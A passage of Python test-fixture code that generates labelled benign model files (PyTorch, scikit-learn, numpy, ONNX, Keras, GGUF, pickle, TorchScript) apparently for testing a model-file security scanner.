    def sparse() -> dict[str, bytes]:
        dense_t = torch.zeros(4, 4)
        dense_t[1, 2] = 1.0
        return {"pytorch_model.bin": torch_save({"sparse": dense_t.to_sparse(), "csr": dense_t.to_sparse_csr()})}

    def sklearn_joblib() -> dict[str, bytes]:
        import joblib
        from sklearn.linear_model import LogisticRegression

        model = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), np.array([0, 0, 1, 1]))
        buffer = io.BytesIO()
        joblib.dump({"model": model, "labels": np.array(["a", None], dtype=object)}, buffer)
        compressed = io.BytesIO()
        joblib.dump(model, compressed, compress=3)
        return {"model.joblib": buffer.getvalue(), "model_compressed.joblib": compressed.getvalue()}

    def quantized() -> dict[str, bytes]:
        q = torch.quantize_per_tensor(torch.tensor([1.0, 2.0]), 0.1, 0, torch.qint8)
        return {"pytorch_model.bin": torch_save({"q": q})}

    def npz() -> dict[str, bytes]:
        buffer = io.BytesIO()
        np.savez(buffer, a=np.arange(3), b=np.ones((2, 2)))
        return {"arrays.npz": buffer.getvalue()}

    def npy_strings() -> dict[str, bytes]:
        buffer = io.BytesIO()
        np.save(buffer, np.array(["a", "bc"]))
        return {"labels.npy": buffer.getvalue()}

    def sentence_piece() -> dict[str, bytes]:
        return {"model.safetensors": safetensors_file(), "spiece.model": b"\x0a\x0b\x0a\x05<unk>\x15\x00\x00\x00\x00"}

    return {
        "torch-state-dict-zip": (lambda: {"pytorch_model.bin": torch_state_bytes()}, "torch.save state dict"),
        "torch-state-dict-legacy": (lambda: {"pytorch_model.bin": torch_state_bytes(legacy=True)}, "legacy torch.save"),
        "torch-new-dtypes": (
            lambda: {
                "pytorch_model.bin": torch_save(
                    {"bf16": torch.ones(2, dtype=torch.bfloat16), "f8": torch.zeros(2).to(torch.float8_e4m3fn)}
                )
            },
            "bf16/float8 tensors",
        ),
        "training-args": (training_args, "HF Trainer training_args.bin"),
        "rng-state": (rng_state, "HF Trainer rng_state.pth"),
        "optimizer-scheduler": (optimizer, "optimizer.pt + scheduler.pt"),
        "sparse-tensors": (sparse, "sparse COO/CSR tensors"),
        "quantized-tensor": (quantized, "quantized tensor"),
        "sklearn-joblib": (sklearn_joblib, "scikit-learn LogisticRegression via joblib"),
        "safetensors": (lambda: {"model.safetensors": safetensors_file()}, "safetensors"),
        "npy-numeric": (lambda: {"array.npy": npy_numeric()}, "numpy float array"),
        "npy-strings": (npy_strings, "numpy unicode array"),
        "npz-numeric": (npz, "numpy savez"),
        "onnx-plain": (lambda: {"model.onnx": onnx_model()}, "ONNX Add model"),
        "onnx-external-data": (
            lambda: {"model.onnx": onnx_model(external_location="model.onnx_data"), "model.onnx_data": b"\x00" * 8},
            "ONNX with external data in the folder",
        ),
        "keras-h5-dense": (lambda: {"model.h5": h5_model(keras_config([dense()]))}, "Keras 2 HDF5 Dense model"),
        "keras-v3-dense": (lambda: {"model.keras": keras_zip(keras_config([dense()]))}, "Keras 3 Dense model"),
        "gguf-llama3-template": (
            lambda: {"model.gguf": gguf_file(LLAMA3_TEMPLATE, root / "_gguf")},
            "GGUF with an ordinary chat template",
        ),
        "tokenizer-config-template": (
            lambda: {
                "model.safetensors": safetensors_file(),
                "tokenizer_config.json": json.dumps({"chat_template": LLAMA3_TEMPLATE}).encode(),
            },
            "tokenizer_config.json chat template",
        ),
        "sentencepiece-model": (sentence_piece, "sentencepiece tokenizer beside safetensors"),
        "plain-pickle-dict": (
            lambda: {"model.pkl": pickle.dumps({"vocab": ["a", "b"], "dim": 4}, protocol=2)},
            "pickle of builtins",
        ),
        "protocol0-sav-dict": (
            lambda: {"model.sav": pickle.dumps({"a": [1, 2]}, protocol=0)},
            "protocol-0 pickle of builtins",
        ),
        "pickle-numpy-array": (lambda: {"embeddings.pkl": pickle.dumps(np.arange(4.0))}, "pickled numpy array"),
        "torchscript-plain": (lambda: {"model.pt": torchscript_bytes()}, "TorchScript archive"),
        "zip-of-safetensors": (
            lambda: {"model.zip": zip_of({"model.safetensors": safetensors_file()})},
            "zip of safetensors",
        ),
        "stray-helper-py": (
            lambda: {
                "model.safetensors": safetensors_file(),
                "helper.py": b"#!/usr/bin/env python\nimport json\nprint(json.dumps({}))\n",
            },
            "a helper script that runs nothing (issue 10: never 'requires remote code')",
        ),
        "readme-and-config": (
            lambda: {
                "model.safetensors": safetensors_file(),
                "README.md": b"# model\n",
                "config.json": b'{"model_type": "bert"}',
            },
            "card + config",
        ),
    }


def add_benign(samples: list[Sample], root: Path) -> None:
    for name, (build, source) in _benign_builders(root).items():
        try:
            files = build()
        except ImportError:  # an optional library for a benign sample (scikit-learn) is not installed
            continue
        samples.append(Sample(f"benign-{name}", False, "benign", source, files, next(iter(files))))


def marker_path(root: Path) -> Path:
    return root / MARKER_NAME
